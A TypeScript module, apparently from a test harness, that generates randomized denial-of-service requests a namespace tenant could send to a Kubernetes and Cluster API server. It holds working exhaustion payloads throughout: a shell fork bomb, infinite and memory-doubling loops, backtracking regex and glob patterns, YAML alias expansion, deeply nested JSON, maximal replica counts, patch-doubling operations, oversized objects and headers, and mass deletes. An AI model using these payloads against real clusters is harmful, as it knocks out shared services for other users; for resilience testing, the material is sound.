import type { Dice } from '../support/rough/dice.ts';
import type { WireRequest } from '../support/rough/wire.ts';

/** A denial of service by a tenant with all rights in one namespace. */
export type Attack = (dice: Dice, target: AttackTarget) => WireRequest[];

export interface AttackTarget {
  readonly namespace: string;
  /** URL of the tenant's server, whose answers never end */
  readonly endlessUrl: string;
}

const most = 2_147_483_647;
const json = ['content-type', 'application/json'] as const;

const post = (path: string, object: object): WireRequest => ({
  method: 'POST',
  path,
  headers: [json],
  body: JSON.stringify(object),
});

const patch = (path: string, type: string, body: unknown): WireRequest => ({
  method: 'PATCH',
  path,
  headers: [['content-type', `application/${type}+${type === 'apply-patch' ? 'yaml' : 'json'}`]],
  body: JSON.stringify(body),
});

const unique = (dice: Dice, prefix: string): string => `${prefix}-${dice.between(0, 1_000_000_000).toString(36)}`;

const podTemplate = (labels: object, command: readonly string[]): object => ({
  metadata: { labels },
  spec: { containers: [{ name: 'main', image: 'busybox', command }] },
});

function workload(dice: Dice, { namespace }: AttackTarget): WireRequest[] {
  const kind = dice.pick(['ReplicaSet', 'StatefulSet', 'Deployment', 'Job']);
  const group = kind === 'Job' ? 'batch' : 'apps';
  const name = unique(dice, kind.toLowerCase());
  const labels = { app: name };
  const template = podTemplate(labels, ['sh', '-c', 'sleep 3600']) as { spec: object };
  const spec =
    kind === 'Job'
      ? {
          parallelism: most,
          completions: most,
          template: { ...template, spec: { ...template.spec, restartPolicy: 'Never' } },
        }
      : { replicas: most, selector: { matchLabels: labels }, template };
  const path = `/apis/${group}/v1/namespaces/${namespace}/${kind.toLowerCase()}s`;
  return [
    post(path, { apiVersion: `${group}/v1`, kind, metadata: { name }, spec }),
    { method: 'DELETE', path: `${path}/${name}` },
  ];
}

function machines(dice: Dice, { namespace }: AttackTarget): WireRequest[] {
  const name = unique(dice, 'md');
  const labels = { 'cluster.x-k8s.io/deployment-name': name };
  const path = `/apis/cluster.x-k8s.io/v1beta2/namespaces/${namespace}/machinedeployments`;
  const template = {
    metadata: { labels },
    spec: {
      clusterName: 'absent',
      bootstrap: { dataSecretName: 'absent' },
      infrastructureRef: {
        apiGroup: 'infrastructure.cluster.x-k8s.io',
        kind: 'OpenStackMachineTemplate',
        name: 'absent',
      },
    },
  };
  const spec = { clusterName: 'absent', replicas: most, selector: { matchLabels: labels }, template };
  const object = { apiVersion: 'cluster.x-k8s.io/v1beta2', kind: 'MachineDeployment', metadata: { name }, spec };
  return [post(path, object), { method: 'DELETE', path: `${path}/${name}` }];
}

/** Runs a shell script that never ends, or takes too long. */
function program(dice: Dice, { namespace }: AttackTarget): WireRequest[] {
  const script = dice.pick([
    'f() { f; f; }; f',
    'while true; do :; done',
    'a=x; while true; do a=$a$a; done',
    `echo ${'a'.repeat(40)} | grep -E '^(a+)+$b'`,
    `case ${'a'.repeat(60)} in ${'*a'.repeat(25)}b) echo;; esac`,
    'yes | head -c 100000000',
    'f() { for i in 1 2 3 4 5 6 7 8 9; do f; done; }; f',
  ]);
  const name = unique(dice, 'pod');
  const path = `/api/v1/namespaces/${namespace}/pods`;
  const probe = { exec: { command: ['sh', '-c', script] }, periodSeconds: 1, timeoutSeconds: 1 };
  const container = { name: 'main', image: 'busybox', command: ['sh', '-c', script], livenessProbe: probe };
  const object = { apiVersion: 'v1', kind: 'Pod', metadata: { name }, spec: { containers: [container] } };
  return [post(path, object), { method: 'DELETE', path: `${path}/${name}?gracePeriodSeconds=0` }];
}

function movingPatch(dice: Dice, { namespace }: AttackTarget): WireRequest[] {
  const path = `/api/v1/namespaces/${namespace}/configmaps`;
  const name = unique(dice, 'moved');
  const data = Object.fromEntries(Array.from({ length: 2_000 }, (_, index) => [`key-${index}`, 'x'.repeat(100)]));
  const count = dice.pick([1_000, 9_999, 100_000]);
  const moves = Array.from({ length: count }, (_, index) => ({
    op: dice.pick(['move', 'copy']),
    from: index % 2 === 0 ? '/data' : '/metadata/annotations',
    path: index % 2 === 0 ? '/metadata/annotations' : '/data',
  }));
  const doubling = Array.from({ length: 40 }, (_, index) => ({
    op: 'copy',
    from: '/metadata',
    path: `/metadata/x${index}`,
  }));
  return [
    post(path, { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, annotations: { a: 'b' } }, data }),
    patch(`${path}/${name}`, 'json-patch', moves),
    patch(`${path}/${name}`, 'json-patch', doubling),
    { method: 'DELETE', path: `${path}/${name}` },
  ];
}

function longLists(dice: Dice, { namespace }: AttackTarget): WireRequest[] {
  const path = `/api/v1/namespaces/${namespace}/podtemplates`;
  const name = unique(dice, 'lists');
  const env = (from: number): object[] =>
    Array.from({ length: 8_000 }, (_, index) => ({ name: `V${from + index}`, value: 'v' }));
  const template = (from: number): object => ({
    template: {
      metadata: { labels: { app: name } },
      spec: { containers: [{ name: 'main', image: 'busybox', env: env(from) }] },
    },
  });
  const head = { apiVersion: 'v1', kind: 'PodTemplate', metadata: { name } };
  const manager = `?fieldManager=${unique(dice, 'manager')}&force=true`;
  return [
    post(path, { ...head, ...template(0) }),
    patch(`${path}/${name}`, 'strategic-merge-patch', template(4_000)),
    patch(`${path}/${name}${manager}`, 'apply-patch', { ...head, ...template(2_000) }),
    { method: 'DELETE', path: `${path}/${name}` },
  ];
}

function largeObject(dice: Dice, { namespace }: AttackTarget): WireRequest[] {
  const path = `/api/v1/namespaces/${namespace}/configmaps`;
  const name = unique(dice, 'large');
  const data = { text: 'x'.repeat(dice.pick([900_000, 1_400_000, 2_900_000])) };
  return [
    post(path, { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name }, data }),
    ...Array.from({ length: 5 }, (_, index) =>
      patch(`${path}/${name}`, 'merge-patch', { data: { [`more-${index}`]: data.text } }),
    ),
    { method: 'DELETE', path: `${path}/${name}` },
  ];
}

function oddText(dice: Dice, { namespace }: AttackTarget): WireRequest[] {
  const path = `/api/v1/namespaces/${namespace}/configmaps`;
  const body = dice.pick([
    '{"a":'.repeat(50_000),
    `[${'['.repeat(50_000)}`,
    `a: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghij'
      .split('')
      .map((key, index) => `${key}: &${key} [${`*${'abcdefghij'[index]},`.repeat(9)}]`)
      .join('\n')}`,
  ]);
  return [
    { method: 'POST', path, headers: [['content-type', dice.pick(['application/json', 'application/yaml'])]], body },
  ];
}

function selectors(dice: Dice, { namespace }: AttackTarget): WireRequest[] {
  const many = Array.from({ length: 3_000 }, (_, index) => `v${index}`).join(',');
  const query = dice.pick([
    `labelSelector=${encodeURIComponent(`app in (${many})`)}`,
    `fieldSelector=${encodeURIComponent(`${'metadata.name!=x,'.repeat(1_000)}metadata.name=y`)}`,
    'limit=1',
    `watch=true&timeoutSeconds=5&labelSelector=${encodeURIComponent(`app notin (${many})`)}`,
  ]);
  const resource = dice.pick(['pods', 'configmaps', 'secrets', 'events']);
  return [{ method: 'GET', path: `/api/v1/namespaces/${namespace}/${resource}?${query}`, cutAfterMs: 5_000 }];
}

function manyHeaders(dice: Dice, { namespace }: AttackTarget): WireRequest[] {
  const headers = Array.from({ length: dice.pick([900, 1_500, 1_900]) }, (_, index) => [`x-${index}`, 'v'] as const);
  return [{ method: 'GET', path: `/api/v1/namespaces/${namespace}/pods`, headers }];
}

/** Creates a cluster on a cloud of the tenant whose answers never end. */
function endlessCloud(dice: Dice, { namespace, endlessUrl }: AttackTarget): WireRequest[] {
  const name = unique(dice, 'endless');
  const clouds = `clouds: {openstack: {auth: {auth_url: "${endlessUrl}", username: u, password: p, project_name: p, user_domain_name: d, project_domain_name: d}}}`;
  const secret = { apiVersion: 'v1', kind: 'Secret', metadata: { name }, stringData: { 'clouds.yaml': clouds } };
  const base = `/apis/infrastructure.cluster.x-k8s.io/v1beta2/namespaces/${namespace}/openstackclusters`;
  const core = `/apis/cluster.x-k8s.io/v1beta2/namespaces/${namespace}/clusters`;
  const reference = { apiGroup: 'infrastructure.cluster.x-k8s.io', kind: 'OpenStackCluster', name };
  return [
    post(`/api/v1/namespaces/${namespace}/secrets`, secret),
    post(core, {
      apiVersion: 'cluster.x-k8s.io/v1beta2',
      kind: 'Cluster',
      metadata: { name },
      spec: { infrastructureRef: reference, controlPlaneEndpoint: { host: '127.0.0.1', port: 9 } },
    }),
    post(base, {
      apiVersion: 'infrastructure.cluster.x-k8s.io/v1beta2',
      kind: 'OpenStackCluster',
      metadata: { name },
      spec: { identityRef: { name, cloudName: 'openstack' } },
    }),
    { method: 'DELETE', path: `${core}/${name}` },
  ];
}

function reviews(dice: Dice, { namespace }: AttackTarget): WireRequest[] {
  const attributes = { namespace, verb: 'get', resource: dice.weirdText(20_000) };
  const review = {
    apiVersion: 'authorization.k8s.io/v1',
    kind: 'SelfSubjectAccessReview',
    spec: { resourceAttributes: attributes },
  };
  return [post('/apis/authorization.k8s.io/v1/selfsubjectaccessreviews', review)];
}

function deletions({ pick }: Dice, { namespace }: AttackTarget): WireRequest[] {
  const resource = pick(['configmaps', 'podtemplates', 'pods']);
  return [{ method: 'DELETE', path: `/api/v1/namespaces/${namespace}/${resource}` }];
}

export const attacks: Readonly<Record<string, Attack>> = {
  workload,
  machines,
  program,
  movingPatch,
  longLists,
  largeObject,
  oddText,
  selectors,
  manyHeaders,
  endlessCloud,
  reviews,
  deletions,
};
